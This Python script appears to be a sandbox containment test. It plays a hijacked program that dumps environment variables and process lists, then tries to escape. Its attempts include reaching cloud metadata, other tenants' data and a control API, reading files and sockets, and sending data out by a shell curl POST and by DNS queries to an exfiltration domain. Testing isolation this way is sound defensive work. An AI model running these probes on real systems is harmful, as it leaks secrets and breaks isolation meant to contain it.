"""A program that was talked into working against its owner: it tries every way out that it can think of.

hostile.py TARGETS, where TARGETS is a JSON object: site (HOST:PORT of the host's loopback), names (allowed, forbidden), control
(HOST:PORT), files (paths that it would like to read), sockets (paths of Unix sockets), abstract (name of an abstract Unix
socket on the host). Prints one JSON object for each attempt, on a line of its own: attempt, out (whether anything came back
from the other side), detail. It never raises.
"""

import json
import os
import socket
import ssl
import struct
import sys
import urllib.error
import urllib.request

TARGETS = json.loads(sys.argv[1])
LIMIT = 5  # seconds


def dns_query(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def tcp(host, port, say, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(LIMIT)
        s.connect((host, port))
        s.sendall(say)
        return s.recv(4096)


def udp(host, port, say):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(LIMIT)
        s.sendto(say, (host, port))
        return s.recv(4096)


def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(LIMIT)
        s.connect(path)
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        return s.recv(4096)


def tls(host, port, name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((host, port), LIMIT) as raw, context.wrap_socket(raw, server_hostname=name) as s:
        s.sendall(b"GET /secret/a HTTP/1.1\r\nHost: " + (name or host).encode() + b"\r\nConnection: close\r\n\r\n")
        return s.recv(4096)


def fetch(url, data=None, headers=None, proxied=True):
    opener = urllib.request.build_opener() if proxied else urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(urllib.request.Request(url, data=data, headers=headers or {}), timeout=30) as answer:
            return answer.read()
    except urllib.error.HTTPError as refused:
        raise OSError(f"{refused.code} {refused.read(400)!r}") from None


def read(path):
    with open(path, "rb") as f:
        return f.read(1 << 20)


def processes():
    found = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
        try:
            found.append(read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    return found


def attempts():
    site, port = TARGETS["site"].split(":")
    allowed, forbidden = TARGETS["allowed"], TARGETS["forbidden"]
    control = TARGETS["control"]
    http = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    yield "straight to the site on the host's loopback", lambda: tcp(site, int(port), http)
    yield "straight to the control API", lambda: tcp(control.split(":")[0], int(control.split(":")[1]), http)
    yield "the control API by the proxy", lambda: fetch(f"http://{control}/v1/jwks")
    yield "raw bytes to an address", lambda: tcp("93.184.216.34", 4444, b"stolen\n")
    yield "plain HTTP to an address, without the proxy", lambda: fetch("http://93.184.216.34/", proxied=False)
    yield "TLS to an address, without a name", lambda: tls("93.184.216.34", 443, None)
    yield "TLS to an address, under a forbidden name", lambda: tls("93.184.216.34", 443, forbidden.split(":")[0])
    yield "a forbidden host by the proxy", lambda: fetch(f"https://{forbidden}/public/a")
    yield "a forbidden host without the proxy", lambda: fetch(f"https://{forbidden}/public/a", proxied=False)
    yield "another tenant's resource", lambda: fetch(f"https://{allowed}/tenants/other/data")
    yield "another tenant's resource without the proxy", lambda: fetch(f"https://{allowed}/tenants/other/data", proxied=False)
    yield "data sent out by POST to an allowed host", lambda: fetch(f"https://{allowed}/public/a", data=b"stolen")
    yield "data sent out by the shell", lambda: os.popen(f"curl -sS --fail --max-time 20 -d stolen https://{forbidden}/collect").read().encode()
    yield "a model past the gate", lambda: fetch(TARGETS["model"], data=b'{"model":"gpt-5","messages":[]}', headers={"Content-Type": "application/json"}, proxied=False)
    yield "metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/", proxied=False)
    yield "metadata by the proxy", lambda: fetch("http://169.254.169.254/latest/meta-data/")
    yield "metadata by a redirect of an allowed host", lambda: fetch(f"https://{allowed}/public/to-metadata")
    yield "a name in a DNS query", lambda: check_dns(udp("8.8.8.8", 53, dns_query("c3RvbGVu.exfil.example.org")))
    yield "UDP to another port", lambda: udp("8.8.8.8", 4444, b"stolen")
    yield "HTTP/3", lambda: udp("93.184.216.34", 443, b"\xc0\0\0\0\1" + b"\0" * 1200)
    yield "IPv6", lambda: tcp("2606:2800:220:1:248:1893:25c8:1946", 443, http, socket.AF_INET6)
    yield "an abstract Unix socket of the host", lambda: unix("\0" + TARGETS["abstract"])
    for path in TARGETS["sockets"]:
        yield "the Unix socket " + os.path.basename(path), lambda path=path: unix(path)
    for path in TARGETS["files"]:
        yield "the file " + os.path.basename(path), lambda path=path: read(path)


def check_dns(answer):
    if answer[3] & 15 == 0 and answer[6:8] != b"\0\0":  # no error, and something is answered
        return answer
    raise OSError(f"answered locally: code {answer[3] & 15}")


def say(**line):
    print(json.dumps(line), flush=True)


if __name__ == "__main__":
    say(attempt="environment", out=False, detail=json.dumps(dict(os.environ)))
    say(attempt="processes", out=False, detail=json.dumps(processes()))
    for name, attempt in attempts():
        try:
            got = attempt()
            say(attempt=name, out=bool(got), detail=repr(got[:400]))
        except Exception as problem:
            say(attempt=name, out=False, detail=f"{type(problem).__name__}: {problem}")
